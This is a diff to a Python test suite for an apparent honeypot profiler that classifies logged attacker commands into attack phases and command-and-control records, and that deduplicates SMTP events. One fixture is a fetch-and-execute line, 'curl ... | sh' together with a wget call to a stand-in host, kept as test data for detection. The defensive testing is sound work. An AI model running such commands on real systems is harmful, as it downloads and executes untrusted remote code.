@@ -179,9 +179,10 @@ async def test_commands_phases_and_c2(store: Store) -> None:
         b' bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root src=192.0.2.44 pwd=/tmp'
         b" cmd=curl -fsSL http://203.0.113.80/i.sh | sh; wget http://10.0.0.9/x")
     await store.write_batch([command])
-    assert [r[1:] for r in await rows(store, "profile_commands")] == [
-        (IP, 1772442601190000, "web-02", "", "command_and_control,execution",
-         "curl -fsSL http://203.0.113.80/i.sh | sh; wget http://10.0.0.9/x")]
+    assert await rows(store, "profile_commands") == [
+        (IP, 1772442601190000, "web-02", "",
+         "curl -fsSL http://203.0.113.80/i.sh | sh; wget http://10.0.0.9/x",
+         "command_and_control,execution")]
     assert [r[2] for r in await rows(store, "profile_phases")] == \
         ["command_and_control", "execution"]
     assert [r[:4] for r in await rows(store, "profile_c2")] == \
@@ -200,3 +201,11 @@ async def test_c2_on_the_honeypot_itself_is_internal(store: Store) -> None:
 async def test_irrelevant_events_produce_no_statements() -> None:
     event = syslog("09:00:00", "web-02", "http", "http_request", 'src_ip="192.0.2.1" path="/"')
     assert Profiler().statements([event] * 100) == []
+
+
+async def test_a_partly_known_batch_profiles_only_its_new_events(store: Store) -> None:
+    old = syslog("08:14:05", "mail-01", "smtp", "rcpt_to", 'src="198.51.100.23" value="<a@v.com>"')
+    new = syslog("08:15:05", "mail-01", "smtp", "rcpt_to", 'src="198.51.100.23" value="<b@v.com>"')
+    await store.write_batch([old])
+    assert await store.write_batch([old, new, new]) == 1
+    assert (await rows(store, "profile_smtp_targets"))[0][2] == 2
